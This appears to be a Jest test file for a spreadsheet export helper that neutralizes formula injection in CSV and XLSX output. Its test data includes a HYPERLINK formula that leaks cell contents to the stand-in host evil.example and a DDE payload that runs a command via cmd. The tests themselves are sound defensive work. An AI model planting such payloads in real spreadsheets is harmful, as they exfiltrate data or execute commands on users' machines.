import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { neutralizeCell, writeTable } from './spreadsheet';

describe('neutralizeCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['纯棉T恤', '纯棉T恤'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('quotes a text cell a spreadsheet would run: %j', (cell, expected) => {
    expect(neutralizeCell(cell)).toBe(expected);
  });

  it.each([-5, 0, 12.5])('keeps the number %p a number', (n) => expect(neutralizeCell(n)).toBe(n));
  it.each(['-5', '-12.30', '+3', '0.5'])('keeps text that is a plain number (%j), so it still reads as one', (n) =>
    expect(neutralizeCell(n)).toBe(n),
  );
});

describe('writeTable', () => {
  const rows = [
    { remark: '=HYPERLINK("http://evil.example/?x="&A1,"click")', refunded: '-5.00', qty: -2, title: '@home' },
  ];
  const columns = ['remark', 'refunded', 'qty', 'title'];

  it('writes no live formula into a CSV, and keeps negative amounts numeric', async () => {
    const csv = await writeTable(columns, rows, 'csv', { sheet: 's', header: ['=header', 'b', 'c', 'd'] });
    const [header, row] = parse(csv, { bom: true }) as string[][];
    expect(header).toEqual(["'=header", 'b', 'c', 'd']);
    expect(row).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '-5.00', '-2', "'@home"]);
  });

  it('writes XLSX text cells as text, not formulas', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await writeTable(columns, rows, 'xlsx', { sheet: 's' })) as unknown as ArrayBuffer);
    const cell = wb.worksheets[0]!.getRow(2).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(rows[0]!.remark);
  });
});
